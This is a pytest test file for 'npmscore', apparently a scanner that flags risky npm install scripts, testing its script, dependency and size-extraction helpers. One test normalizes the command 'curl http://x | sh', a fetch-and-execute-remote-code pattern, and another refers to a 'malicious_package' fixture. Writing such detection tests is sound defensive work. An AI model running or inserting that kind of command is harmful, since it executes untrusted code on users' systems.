from npmscore.models.schemas import PackageMetadata
from npmscore.utils.package_analyzer import (
    calculate_size_metrics,
    extract_all_scripts,
    extract_dependencies,
    extract_lifecycle_scripts,
    get_package_summary,
    normalize_script,
)


def test_extract_lifecycle_scripts_only_known_hooks():
    package = {
        "name": "x",
        "scripts": {
            "postinstall": "node setup.js",
            "test": "jest",
            "prepare": "husky install",
            "preinstall": "",
            "install": 42,
        },
    }
    assert extract_lifecycle_scripts(package) == {
        "postinstall": "node setup.js",
        "prepare": "husky install",
    }


def test_extract_lifecycle_scripts_from_model():
    metadata = PackageMetadata.model_validate({"name": "x", "scripts": {"preinstall": "echo hi"}})
    assert extract_lifecycle_scripts(metadata) == {"preinstall": "echo hi"}


def test_extract_lifecycle_scripts_handles_missing():
    assert extract_lifecycle_scripts(None) == {}
    assert extract_lifecycle_scripts({"name": "x"}) == {}
    assert extract_lifecycle_scripts({"name": "x", "scripts": None}) == {}


def test_extract_all_scripts():
    assert extract_all_scripts({"name": "x", "scripts": {"build": "tsc"}}) == {"build": "tsc"}
    assert extract_all_scripts(None) == {}


def test_normalize_script():
    assert normalize_script("  curl   http://x \n | sh ") == "curl http://x | sh"
    assert normalize_script(None) == ""


def test_extract_dependencies_uses_npm_field_names():
    metadata = PackageMetadata.model_validate(
        {
            "name": "x",
            "dependencies": {"a": "1"},
            "devDependencies": {"b": "2"},
            "optionalDependencies": {"c": "3"},
        }
    )
    deps = extract_dependencies(metadata)
    assert deps["dependencies"] == {"a": "1"}
    assert deps["devDependencies"] == {"b": "2"}
    assert deps["peerDependencies"] == {}
    assert deps["optionalDependencies"] == {"c": "3"}


def test_size_metrics_default_to_zero():
    assert calculate_size_metrics(PackageMetadata(name="x")) == {
        "unpacked_size": 0,
        "file_count": 0,
        "tarball_size": 0,
    }
    assert calculate_size_metrics({"name": "x", "dist": {"unpackedSize": None}})["unpacked_size"] == 0


def test_size_metrics_from_dist(clean_metadata):
    metrics = calculate_size_metrics(clean_metadata)
    assert metrics["unpacked_size"] == 12_000
    assert metrics["file_count"] == 8


def test_package_summary(malicious_package):
    summary = get_package_summary(malicious_package)
    assert summary["name"] == "evil-pkg"
    assert summary["install_scripts"] == ["postinstall"]
    assert summary["has_lifecycle_scripts"]
    assert summary["dependencies"]["dependencies"] == {"axios": "^1.0.0"}


def test_package_summary_requires_name():
    assert get_package_summary(None) is None
    assert get_package_summary({"version": "1.0.0"}) is None
